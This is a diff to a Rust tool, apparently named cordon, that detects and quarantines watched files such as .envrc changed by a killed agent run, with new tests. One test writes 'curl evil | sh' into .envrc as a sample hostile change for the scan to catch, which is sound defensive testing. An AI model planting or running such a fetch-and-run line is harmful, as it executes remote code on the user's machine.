@@ -1245,13 +1245,14 @@ impl Snapshot {
     /// back), each moved aside: the scan of a run whose cordon died before its own scan (killed
     /// by an agent host's timeout), done by the next run without the "before" snapshot.
     /// Directories are not reported by their ctime (git changes it in normal work); what is
-    /// watched inside them is. A changed file whose earlier content the dead run kept
+    /// watched inside them is; nor is a file that holds what the dead run kept of it (content,
+    /// mode and owner: as it was). A changed file whose earlier content the dead run kept
     /// ([`Kept`]) gets it back, as the run's own scan would have done (never over a name:
     /// what is at the name is moved aside first, and the restore refuses a name that was
     /// filled meanwhile); each move journaled first in `journal`, when there is one.
     pub fn changed_since(
         &self,
-        since: SystemTime,
+        since: Began,
         kept: &Kept,
         journal: Option<&Journal>,
     ) -> Vec<Finding> {
@@ -1272,6 +1273,15 @@ impl Snapshot {
             // What this process just put back from the dead scan's journal
             // ([`Journal::recover`]), unchanged since.
             if is_own(path, now) {
+                continue;
+            }
+            // As it was before the run (content, mode and owner as the run kept them): cordon's
+            // own restore of a scan killed before its marker went, or a rewrite to the same
+            // bytes. Nothing to move aside; it would only blame the run for the operator's file.
+            if now
+                .earlier()
+                .is_some_and(|e| kept.files.get(path) == Some(&e))
+            {
                 continue;
             }
             out.push(Finding {
@@ -1530,12 +1540,29 @@ fn real_in(path: &Path, roots: &[PathBuf]) -> PathBuf {
 /// `kept` ([`Snapshot::kept`]) put back; `None` when the walk could not finish.
 pub fn scan_changed_since(
     roots: &[PathBuf],
-    since: SystemTime,
+    since: impl Into<Began>,
     kept: &Kept,
     journal: Option<&Journal>,
 ) -> Option<Vec<Finding>> {
     let now = Snapshot::take(roots);
-    (!now.truncated).then(|| now.changed_since(since, kept, journal))
+    (!now.truncated).then(|| now.changed_since(since.into(), kept, journal))
+}
+
+/// When a dead run began, as its scan compares it with ctimes ([`scan_changed_since`]).
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Began {
+    /// Read from the clock (`SystemTime::now`): a ctime the kernel stamped after it may lie
+    /// up to [`STAMP_SLACK`] before it.
+    Clock(SystemTime),
+    /// Stamped by the kernel, the clock ctimes come from, on a file made then (the marker's
+    /// birth time): a ctime stamped after it is not earlier.
+    Stamp(SystemTime),
+}
+
+impl From<SystemTime> for Began {
+    fn from(t: SystemTime) -> Began {
+        Began::Clock(t)
+    }
 }
 
 /// How far before a moment a ctime stamped after it may lie: the kernel stamps ctime from its
@@ -1546,11 +1573,15 @@ const STAMP_SLACK: Duration = Duration::from_millis(50);
 
 /// Whether a ctime (seconds, nanoseconds) may have been stamped at or after `since`. A ctime
 /// with no fraction is taken for a filesystem that keeps whole seconds (or FAT's two): compared
-/// by those, so a change in the same second is never missed. Any other is compared to
-/// [`STAMP_SLACK`] before `since`: what the operator changed more than that before a run began
-/// is not blamed on it (compared in whole seconds, an edit made in the same second as a killed
-/// run's start was moved aside as the run's).
-fn stamped_at_or_after((secs, nsec): (i64, i64), since: SystemTime) -> bool {
+/// by those, so a change in the same second is never missed. Any other is compared to `since`
+/// itself where the kernel stamped it, else to [`STAMP_SLACK`] before it: what the operator
+/// changed before a run began is not blamed on it (compared in whole seconds, an edit made in
+/// the same second as a killed run's start was moved aside as the run's).
+fn stamped_at_or_after((secs, nsec): (i64, i64), since: Began) -> bool {
+    let (since, slack) = match since {
+        Began::Clock(t) => (t, STAMP_SLACK),
+        Began::Stamp(t) => (t, Duration::ZERO),
+    };
     let since = since
         .duration_since(SystemTime::UNIX_EPOCH)
         .unwrap_or_default();
@@ -1560,7 +1591,7 @@ fn stamped_at_or_after((secs, nsec): (i64, i64), since: SystemTime) -> bool {
     let (Ok(secs), Ok(nsec)) = (u64::try_from(secs), u32::try_from(nsec)) else {
         return secs >= 0; // not a time cordon can read: taken as after
     };
-    Duration::new(secs, nsec.min(999_999_999)) + STAMP_SLACK >= since
+    Duration::new(secs, nsec.min(999_999_999)) + slack >= since
 }
 
 /// The earlier contents a run's "before" snapshot read ([`Snapshot::kept`]), as the run kept
@@ -3144,6 +3175,104 @@ mod tests {
         );
         assert!(root.join(".envrc").exists());
     }
+    /// Where the marker's birth time says when the dead run began (the kernel's own stamp),
+    /// an edit of the operator's made just before it — within the clock's slack — is not the
+    /// run's; a file changed after it is.
+    #[test]
+    fn a_dead_runs_scan_from_the_markers_birth_blames_nothing_made_before_it() {
+        use rustix::fs::{statx, AtFlags, StatxFlags};
+        use std::os::unix::fs::MetadataExt;
+        let d = tempfile::tempdir().unwrap();
+        let root = d.path().canonicalize().unwrap().join("root");
+        std::fs::create_dir(&root).unwrap();
+        let roots = std::slice::from_ref(&root);
+        std::fs::write(root.join(".envrc"), "the operator's\n").unwrap();
+        // The marker in a later tick of the kernel's clock (a stamp in the same tick as the
+        // edit cannot be told apart from it, and counts as after).
+        let ctime = |p: &Path| {
+            let m = std::fs::metadata(p).unwrap();
+            (m.ctime(), m.ctime_nsec())
+        };
+        let probe = d.path().join("probe");
+        let deadline = std::time::Instant::now() + Duration::from_secs(60);
+        loop {
+            std::fs::write(&probe, "").unwrap();
+            if ctime(&probe) > ctime(&root.join(".envrc")) {
+                break;
+            }
+            assert!(
+                std::time::Instant::now() < deadline,
+                "the clock stood still"
+            );
+        }
+        let marker = d.path().join("marker");
+        std::fs::write(&marker, "").unwrap();
+        let st = statx(
+            rustix::fs::CWD,
+            &marker,
+            AtFlags::empty(),
+            StatxFlags::BTIME,
+        )
+        .unwrap();
+        assert!(StatxFlags::from_bits_retain(st.stx_mask).contains(StatxFlags::BTIME));
+        let born = SystemTime::UNIX_EPOCH
+            + Duration::new(st.stx_btime.tv_sec as u64, st.stx_btime.tv_nsec);
+        std::fs::create_dir(root.join("sub")).unwrap();
+        std::fs::write(root.join("sub/.envrc"), "the run's\n").unwrap();
+        // Stamped, the start does not take the operator's edit a moment before for the run's
+        // (read from the clock, with its slack, it did).
+        let at = |b: Began| {
+            let snap = Snapshot::take(roots);
+            let mut found: Vec<PathBuf> = snap
+                .seen
+                .iter()
+                .filter(|(_, s)| s.id.0 != DIR && stamped_at_or_after((s.id.6, s.id.7), b))
+                .map(|(p, _)| p.clone())
+                .collect();
+            found.sort();
+            found
+        };
+        assert_eq!(at(Began::Stamp(born)), [root.join("sub/.envrc")]);
+        let found = scan_changed_since(roots, Began::Stamp(born), &Kept::default(), None).unwrap();
+        assert_eq!(found.len(), 1, "{found:#?}");
+        assert_eq!(
+            std::fs::read_to_string(root.join(".envrc")).unwrap(),
+            "the operator's\n"
+        );
+    }
+
+    /// A file that holds what the dead run kept of it (content, mode and owner) is as it was,
+    /// whatever its ctime: a scan killed after putting the earlier content back but before
+    /// its marker went (the next run's dead-run scan then sees cordon's own restore as
+    /// changed) moved it aside a second time, blaming the run for the operator's own content.
+    #[test]
+    fn a_file_holding_what_the_dead_run_kept_is_not_taken_for_its_change() {
+        let d = tempfile::tempdir().unwrap();
+        let root = d.path().canonicalize().unwrap();
+        let roots = std::slice::from_ref(&root);
+        let envrc = root.join(".envrc");
+        std::fs::write(&envrc, "use flake\n").unwrap();
+        let started = SystemTime::now() - Duration::from_secs(5);
+        let kept = Snapshot::take(roots).kept();
+        // Put back as the killed scan did: a new file under the name, same content and mode.
+        std::fs::write(root.join(".staging"), "use flake\n").unwrap();
+        std::fs::rename(root.join(".staging"), &envrc).unwrap();
+        let found = scan_changed_since(roots, started, &Kept::read(&kept), None).unwrap();
+        assert!(found.is_empty(), "{found:#?}");
+        assert_eq!(std::fs::read_to_string(&envrc).unwrap(), "use flake\n");
+        let aside: Vec<_> = std::fs::read_dir(&root)
+            .unwrap()
+            .flatten()
+            .filter(|e| e.file_name().to_string_lossy().contains("quarantine"))
+            .collect();
+        assert!(aside.is_empty(), "{aside:?}");
+        // Another content is the run's, as before.
+        std::fs::write(&envrc, "curl evil | sh").unwrap();
+        let found = scan_changed_since(roots, started, &Kept::read(&kept), None).unwrap();
+        assert_eq!(found.len(), 1, "{found:#?}");
+        assert_eq!(std::fs::read_to_string(&envrc).unwrap(), "use flake\n");
+    }
+
     /// A dead run's scan compares ctimes to its start closely: a file changed in the same
     /// second as the start but well before it is not taken for the run's change (compared in
     /// whole seconds it was, and moved aside); one stamped just before the start (the kernel's
@@ -3184,7 +3313,7 @@ mod tests {
         assert_eq!(found.len(), 1, "{found:#?}");
         assert!(!envrc.exists());
         // A filesystem of whole seconds: anything in the same second, or the one before.
-        let t = SystemTime::UNIX_EPOCH + Duration::new(100, 999_999_999);
+        let t = Began::Clock(SystemTime::UNIX_EPOCH + Duration::new(100, 999_999_999));
         assert!(stamped_at_or_after((100, 0), t));
         assert!(stamped_at_or_after((99, 0), t));
         assert!(!stamped_at_or_after((98, 0), t));
